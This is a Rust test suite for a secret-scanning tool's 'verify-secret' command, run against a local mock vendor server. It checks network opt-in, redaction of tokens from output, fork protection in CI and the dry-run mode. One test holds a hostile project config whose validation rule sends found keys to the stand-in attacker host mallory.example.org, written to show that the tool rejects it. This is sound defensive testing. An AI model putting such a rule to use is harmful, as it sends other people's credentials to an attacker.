//! `verify-secret` from end to end, against a server on this machine that plays the vendor.

use crate::command::Run;
use crate::folder::Folder;
use crate::repo::Repo;
use serde_json::Value;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::mpsc::{Receiver, channel};

/// A token of the right shape whose checksum holds; no such token was ever issued.
fn token(seed: u64) -> String {
    lockkeeper::rule::expand_from("{github:ghp_}", seed).unwrap().text
}

/// Plays a vendor: gives one reply (status and body) a connection, in order.
struct Vendor {
    address: String,
    requests: Receiver<String>,
}

impl Vendor {
    fn new(replies: &[(&'static str, &'static str)]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = format!("http://{}", listener.local_addr().unwrap());
        let (sender, requests) = channel();
        let replies = replies.to_vec();
        std::thread::spawn(move || {
            for (status, body) in replies {
                let (stream, _) = listener.accept().unwrap();
                sender.send(head(&stream)).unwrap();
                let length = body.len();
                let reply = format!(
                    "HTTP/1.1 {status}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}"
                );
                let _ = (&stream).write_all(reply.as_bytes());
            }
        });
        Self { address, requests }
    }

    fn endpoint(&self, host: &str) -> String {
        format!("--endpoint={host}={}", self.address)
    }

    fn asked(&self) -> usize {
        self.requests.try_iter().count()
    }
}

fn head(stream: &TcpStream) -> String {
    let lines = BufReader::new(stream).lines().map_while(Result::ok);
    lines.take_while(|line| !line.is_empty()).collect::<Vec<_>>().join("\n")
}

const GITHUB: &str = "api.github.com";

/// A folder with these tokens, one a line.
fn leak(seeds: &[u64]) -> Folder {
    let lines = seeds.iter().map(|seed| format!("KEY={}\n", token(*seed)));
    Folder::new().write("app.conf", lines.collect::<String>())
}

fn verify(folder: &Path, vendor: &Vendor, more: &[&str]) -> Run {
    let endpoint = vendor.endpoint(GITHUB);
    let arguments = ["verify-secret", "--allow-network", "--per-second=20", endpoint.as_str()];
    Run::command(folder, arguments.iter().chain(more))
}

fn states(run: &Run) -> Vec<String> {
    let report: Value = serde_json::from_str(&run.stdout()).unwrap();
    assert_eq!(report["schema"], "lockkeeper.validity/v1");
    let secrets = report["secrets"].as_array().unwrap().iter();
    secrets.map(|secret| secret["state"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn nothing_is_sent_unless_the_command_line_says_so() {
    let folder = leak(&[1]).write(".lockkeeper.toml", "[secrets]\nlive-validation = true\n");
    let vendor = Vendor::new(&[("200 OK", "")]);
    let run = folder.run(["verify-secret", &vendor.endpoint(GITHUB)]);
    assert_eq!(run.status(), 2, "{}", run.text());
    assert!(run.stderr().contains("--allow-network"), "{}", run.text());
    let config = verify(folder.path(), &vendor, &[]);
    assert_eq!(config.status(), 2, "no key of a project file allows it: {}", config.text());
    assert_eq!(vendor.asked(), 0);
}

#[test]
fn one_that_works_ends_with_one() {
    let vendor = Vendor::new(&[("200 OK", "{}"), ("401 Unauthorized", "{}")]);
    let run = verify(leak(&[1, 2]).path(), &vendor, &[]);
    assert_eq!(run.status(), 1, "{}", run.text());
    let text = run.stdout();
    assert!(text.contains("app.conf:1:5: active secret/github-pat ["), "{text}");
    assert!(text.contains("api.github.com answers 200"), "{text}");
    assert!(text.contains("app.conf:2:5: inactive secret/github-pat ["), "{text}");
    let summary = "2 secrets: 1 active, 1 inactive, 0 unknown, 0 unverifiable; 2 requests\n";
    assert!(text.ends_with(summary), "{text}");
    assert_eq!(vendor.asked(), 2);
}

#[test]
fn none_that_works_ends_with_zero_and_not_knowing_with_two() {
    for (status, state, code) in [
        ("401 Unauthorized", "inactive", 0),
        ("500 Internal Server Error", "unknown", 2),
        ("429 Too Many Requests", "unknown", 2),
        ("302 Found", "unknown", 2),
    ] {
        let vendor = Vendor::new(&[(status, "{}")]);
        let run = verify(leak(&[1]).path(), &vendor, &["--format=json"]);
        assert_eq!((run.status(), states(&run)), (code, vec![state.to_owned()]), "{}", run.text());
    }
}

#[test]
fn a_kind_that_nobody_can_be_asked_about_is_listed_and_no_failure() {
    let key = lockkeeper::rule::expand("export RAILS_MASTER_KEY={hex:32}\n").unwrap().text;
    let run =
        verify(Folder::new().write("a.sh", key).path(), &Vendor::new(&[]), &["--format=json"]);
    assert_eq!((run.status(), states(&run)), (0, vec!["unverifiable".to_owned()]));
}

#[test]
fn no_output_holds_the_secret() {
    for status in ["200 OK", "401 Unauthorized", "302 Found", "500 Oops"] {
        for format in ["--format=text", "--format=json"] {
            let vendor = Vendor::new(&[(status, "{}")]);
            let run = verify(leak(&[1]).path(), &vendor, &[format]);
            assert!(!run.text().contains(&token(1)), "{}", run.text());
            assert_eq!(vendor.asked(), 1);
        }
    }
}

/// The token is in the path of the address, which libraries like to quote.
#[test]
fn no_error_quotes_an_address_that_holds_the_secret() {
    let token = lockkeeper::rule::expand("{digit:10}:AA{alnum:33}").unwrap().text;
    let folder = Folder::new().write("bot.conf", format!("token = \"{token}\"\n"));
    let nobody = TcpListener::bind("127.0.0.1:0").unwrap();
    let endpoint = format!("--endpoint=api.telegram.org=http://{}", nobody.local_addr().unwrap());
    drop(nobody);
    let run = folder.run(["verify-secret", "--allow-network", &endpoint]);
    assert_eq!(run.status(), 2, "{}", run.text());
    assert!(run.stdout().contains("the connection fails"), "{}", run.text());
    let (id, rest) = token.split_once(':').unwrap();
    assert!(!run.text().contains(id) && !run.text().contains(rest), "{}", run.text());
}

#[test]
fn a_fork_gets_no_secret_sent() {
    let vendor = Vendor::new(&[("200 OK", "{}")]);
    let event = |head: &str| {
        format!(
            r#"{{"pull_request": {{"head": {{"sha": "{0}", "repo": {{"full_name": "{head}"}}}},
            "base": {{"sha": "{0}", "repo": {{"full_name": "acme/shop"}}}}}}}}"#,
            "1".repeat(40)
        )
    };
    let folder = leak(&[1]).write("own.json", event("acme/shop"));
    let folder = folder.write("fork.json", event("mallory/shop"));
    let run = |event: &str| {
        let endpoint = vendor.endpoint(GITHUB);
        let arguments = ["verify-secret", "--allow-network", "--worktree", &endpoint];
        let variables = [
            ("CI", "true"),
            ("GITHUB_ACTIONS", "true"),
            ("GITHUB_EVENT_NAME", "pull_request_target"),
            ("GITHUB_EVENT_PATH", event),
        ];
        Run::with(folder.path(), arguments, &variables, "")
    };
    for event in ["fork.json", "gone.json"] {
        let refused = run(event);
        assert_eq!(refused.status(), 2, "{}", refused.text());
        assert!(refused.stderr().contains("no secret is sent from there"), "{}", refused.text());
        assert_eq!(vendor.asked(), 0);
    }
    assert_eq!(run("own.json").status(), 1);
    assert_eq!(vendor.asked(), 1);
}

#[test]
fn a_dry_run_says_whom_it_would_ask_and_asks_nobody() {
    let vendor = Vendor::new(&[("200 OK", "{}")]);
    let folder = leak(&[1, 2, 1]);
    let run = folder.run(["verify-secret", "--dry-run", &vendor.endpoint(GITHUB)]);
    assert_eq!(run.status(), 0, "{}", run.text());
    let said =
        "api.github.com: 2 requests\n2 requests would be made, at most 100; nothing was sent\n";
    assert_eq!(run.stdout(), said);
    assert_eq!(vendor.asked(), 0);
}

#[test]
fn one_value_is_read_from_standard_input_alone() {
    let vendor = Vendor::new(&[("200 OK", "{}")]);
    let endpoint = vendor.endpoint(GITHUB);
    let arguments =
        ["verify-secret", "--allow-network", "--rule=secret/github-pat", "--stdin", &endpoint];
    let folder = Folder::new();
    let run = Run::with(folder.path(), arguments, &[], &format!("{}\n", token(1)));
    assert_eq!(run.status(), 1, "{}", run.text());
    assert!(run.stdout().starts_with("standard input: active secret/github-pat: "));
    assert!(!run.text().contains(&token(1)));
    let empty = Run::with(folder.path(), arguments, &[], "\n");
    assert_eq!(empty.status(), 2, "{}", empty.text());
    let unknown = ["verify-secret", "--allow-network", "--rule=secret/jwt", "--stdin"];
    let unknown = Run::with(folder.path(), unknown, &[], "x");
    assert!(unknown.stderr().contains("names nobody to ask"), "{}", unknown.text());
    assert_eq!(vendor.asked(), 1);
}

#[test]
fn a_repository_does_not_choose_where_its_readers_secrets_go() {
    let rule = r#"
        [[rule]]
        id = "secret/acme"
        title = "Acme key"
        severity = "high"
        confidence = "high"
        keywords = ["acme_"]
        pattern = '(?<secret>acme_[0-9a-f]{32})'
        why = "It opens the gate."
        fix = "Change the lock."
        matches = []
        ignores = []
        [rule.validate]
        url = "https://mallory.example.org/"
        headers = { Authorization = "{secret}" }
        valid = { status = [200] }
    "#;
    let key = lockkeeper::rule::expand("acme_{hex:32}\n").unwrap().text;
    let folder = Folder::new().write("a.conf", key).write(".lockkeeper.toml", rule);
    let vendor = Vendor::new(&[("200 OK", "{}")]);
    let endpoint = vendor.endpoint("mallory.example.org");
    let arguments = ["verify-secret", "--allow-network", "--format=json", &endpoint];
    let run = folder.run(arguments);
    assert_eq!((run.status(), states(&run)), (0, vec!["unverifiable".to_owned()]));
    assert_eq!(vendor.asked(), 0);
    let named = folder.run(arguments.iter().chain(&["--config=.lockkeeper.toml"]));
    assert_eq!((named.status(), states(&named)), (1, vec!["active".to_owned()]));
}

#[test]
fn the_fingerprints_are_those_of_a_scan() {
    let repo = Repo::new()
        .commit("start", |tree| tree.write("README.md", "hello\n"))
        .commit("leak", |tree| tree.write("app.conf", format!("K={0}\nK={0}\n", token(1))))
        .commit("again", |tree| tree.write("b.conf", format!("K={}\n", token(2))));
    let fingerprints = |run: &Run, list: &str| {
        let report: Value = serde_json::from_str(&run.stdout()).unwrap();
        let found = report[list].as_array().unwrap().iter();
        found.map(|finding| finding["fingerprint"].clone()).collect::<Vec<_>>()
    };
    let scanned = repo.scan(["--history", "--only=secrets", "--report=json=-"]);
    let vendor = Vendor::new(&[("401 No", ""), ("401 No", "")]);
    let verified = verify(repo.path(), &vendor, &["--history", "--format=json"]);
    let expected = fingerprints(&scanned, "findings");
    assert_eq!(fingerprints(&verified, "secrets"), expected);
    assert!(expected.len() >= 2, "{}", scanned.text());
}

/// Every request of ours goes through the proxy that the environment names: a scan makes none, and
/// `verify-secret` does, which shows that it would have been seen.
#[test]
fn a_scan_opens_no_connection() {
    let proxy = TcpListener::bind("127.0.0.1:0").unwrap();
    proxy.set_nonblocking(true).unwrap();
    let address = format!("http://{}", proxy.local_addr().unwrap());
    let variables: Vec<_> = ["ALL_PROXY", "HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "all_proxy"]
        .map(|name| (name, address.as_str()))
        .into();
    let folder = leak(&[1]);
    let scan = Run::with(folder.path(), ["scan", "--only=secrets,policies"], &variables, "");
    assert_eq!(scan.status(), 1, "{}", scan.text());
    assert!(proxy.accept().is_err(), "a scan asked somebody");
    proxy.set_nonblocking(false).unwrap();
    let seen = std::thread::spawn(move || head(&proxy.accept().unwrap().0));
    let asked = Run::with(folder.path(), ["verify-secret", "--allow-network"], &variables, "");
    assert_eq!(asked.status(), 2, "{}", asked.text());
    assert!(!asked.text().contains(&token(1)), "{}", asked.text());
    let connect = seen.join().unwrap();
    assert!(connect.starts_with("CONNECT api.github.com:443 "), "{connect}");
    assert!(!connect.contains(&token(1)), "{connect}");
}
